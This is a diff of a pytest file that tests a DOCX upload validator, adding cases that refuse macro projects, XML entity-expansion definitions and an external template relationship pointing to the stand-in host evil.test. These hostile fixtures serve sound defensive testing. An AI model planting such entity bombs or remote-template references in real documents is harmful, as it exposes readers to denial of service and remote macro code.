@@ -88,10 +88,28 @@ def test_an_empty_file_and_a_huge_one_are_refused(settings):
         check(upload("a.pdf", PDF + b"\0" * 1024 * 1024))
 
 
-def test_macros_are_refused():
-    with_macro = archive(word__document_xml="<w/>", word__vbaProject_bin="x")
-    with pytest.raises(ValidationError, match="含有宏"):
-        check(upload("稿.docx", with_macro))
+ENTITIES = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w>&b;</w>'
+TEMPLATE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'
+
+
+@pytest.mark.parametrize(
+    ("members", "says"),
+    [
+        ({"word__vbaProject_bin": "x"}, "含有宏"),
+        ({"word__styles_xml": ENTITIES}, "含有实体定义"),
+        ({"word__styles_xml": ENTITIES.encode("utf-16")}, "含有实体定义"),
+        ({"word/_rels/settings.xml.rels": TEMPLATE}, "引用外部模板"),
+    ],
+)
+def test_what_attacks_the_reader_is_refused(members, says):
+    with pytest.raises(ValidationError, match=f"附件“稿.docx”{says}"):
+        check(upload("稿.docx", archive(word__document_xml="<w/>", **members)))
+
+
+def test_a_link_to_a_web_page_is_no_danger():
+    link = TEMPLATE.replace("attachedTemplate", "hyperlink")
+    harmless = archive(word__document_xml="<w/>", **{"word/_rels/document.xml.rels": link})
+    assert check(upload("稿.docx", harmless)).name == "稿.docx"
 
 
 def test_a_zip_bomb_is_refused_before_it_is_opened():
